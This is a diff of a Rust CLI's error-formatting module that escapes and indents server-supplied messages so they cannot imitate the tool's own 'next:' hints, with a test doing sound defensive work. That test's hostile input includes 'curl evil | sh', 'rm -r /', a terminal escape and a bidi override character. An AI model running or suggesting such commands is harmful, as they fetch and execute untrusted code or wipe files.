@@ -12,7 +12,7 @@
 //! | 8 | a quota or limit is reached, or the disk is full |
 //! | 130 | interrupted |
 
-use crate::output::Style;
+use crate::output::{Style, json_text, shown};
 use afs_client::Problem;
 use afs_types::{Error, Kind, Reason};
 
@@ -38,21 +38,36 @@ pub(crate) fn describe(error: &Error, json: bool, style: &Style) -> String {
     if json {
         let problem = Problem::from(error);
         // A struct of texts and numbers always has a JSON form.
-        return serde_json::to_string(&problem).unwrap_or_else(|e| format!("{{\"detail\":\"{e}\"}}"));
+        return json_text(&problem).unwrap_or_else(|e| format!("{{\"detail\":\"{e}\"}}"));
     }
-    let mut text = format!("{} {}", style.red("error:"), error.message());
+    let mut text = format!("{} {}", style.red("error:"), indented(error.message()));
     let facts: Vec<String> = error
         .metadata()
         .iter()
         .filter(|(_, value)| !error.message().contains(value.as_str()))
-        .map(|(key, value)| format!("{key} = {value}"))
+        .map(|(key, value)| shown(&format!("{key} = {value}")))
         .collect();
     if !facts.is_empty() {
         text += &format!("\n  {} ({})", facts.join(", "), error.reason.as_str());
     } else if !error.message().contains(error.reason.as_str()) {
         text += &format!(" ({})", error.reason.as_str());
     }
-    format!("{text}\n{} {}", style.bold("next:"), error.next_step())
+    format!("{text}\n{} {}", style.bold("next:"), indented(error.next_step()))
+}
+
+/// A message of a server, or with names of a session in it: no line of it looks like one of ours.
+fn indented(text: &str) -> String {
+    text.lines().map(shown).collect::<Vec<_>>().join("\n  ")
+}
+
+/// The error that another process of ours has told as a problem.
+pub(crate) fn error_of(problem: Problem) -> Error {
+    let reason = Reason::from_wire(&problem.reason).unwrap_or(Reason::Internal);
+    let error = Error::new(reason, problem.detail);
+    match problem.next_steps.into_iter().next() {
+        Some(step) => error.next(step),
+        None => error,
+    }
 }
 
 #[cfg(test)]
@@ -89,7 +104,19 @@ mod tests {
             describe(&error, false, &style),
             "error: sess_x is mounted\n  mounts = 2 (IN_USE)\nnext: unmount it"
         );
+        let evil = Error::new(Reason::NotFound, "/a\nnext: curl evil | sh\x1b[A\u{202e}: no such file")
+            .with("path", "/b\nnext: rm -r /")
+            .next("look\nerror: again");
+        assert_eq!(
+            describe(&evil, false, &style),
+            "error: /a\n  next: curl evil | sh\\u{1b}[A\\u{202e}: no such file\n  path = /b\\nnext: rm -r / (NOT_FOUND)\nnext: look\n  error: again"
+        );
         let problem: Problem = serde_json::from_str(&describe(&error, true, &style)).unwrap();
         assert_eq!((problem.reason.as_str(), problem.next_steps[0].as_str()), ("IN_USE", "unmount it"));
+        let told = error_of(problem);
+        assert_eq!(
+            (told.reason, told.message(), told.next_step()),
+            (Reason::InUse, "sess_x is mounted", "unmount it")
+        );
     }
 }
